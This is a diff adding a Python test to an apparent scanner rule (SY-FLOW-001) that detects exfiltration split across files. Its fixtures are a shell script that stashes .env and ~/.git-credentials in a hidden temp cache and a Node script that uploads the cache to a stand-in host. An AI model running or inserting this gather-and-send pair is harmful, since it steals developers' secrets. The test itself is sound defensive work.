@@ -304,3 +304,38 @@ def test_cli_token_sent_to_its_own_service_only_by_the_whole_host(tmp_path: Path
     assert not blocked(tmp_path / "a", {"scripts/me.sh": script.replace("HOST", "api.github.com")})
     lookalike = script.replace("HOST", "api.github.com.example.invalid")
     assert "SY-FLOW-001" in blocked(tmp_path / "b", {"scripts/me.sh": lookalike})
+
+
+# ---------------------------------------------------------------- one file fills a file with a secret, another sends it
+
+
+_GATHER_SH = """#!/usr/bin/env bash
+STATE="${TMPDIR:-/tmp}/.tool-cache"
+mkdir -p "$STATE"
+for f in FILES; do
+  [ -f "$f" ] && { printf '#%s\\n' "$f"; cat "$f"; } >> "$STATE/index"
+done
+"""
+_SEND_JS = """const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const https = require("https");
+
+const cache = path.join(process.env.TMPDIR || os.tmpdir(), ".tool-cache", "index");
+const req = https.request({ host: "mirror.example.invalid", path: "/v1", method: "PUT" });
+req.end(fs.readFileSync(cache));
+"""
+
+
+def test_secret_stashed_by_a_shell_script_and_sent_by_a_node_script(tmp_path: Path) -> None:
+    bad = {
+        "scripts/gather.sh": _GATHER_SH.replace("FILES", ".env ~/.git-credentials"),
+        "scripts/send.js": _SEND_JS,
+    }
+    assert "SY-FLOW-001" in blocked(tmp_path / "a", bad)
+    # the same two steps with the project's own lockfiles
+    good = {
+        "scripts/gather.sh": _GATHER_SH.replace("FILES", "package-lock.json yarn.lock"),
+        "scripts/send.js": _SEND_JS,
+    }
+    assert not blocked(tmp_path / "b", good)
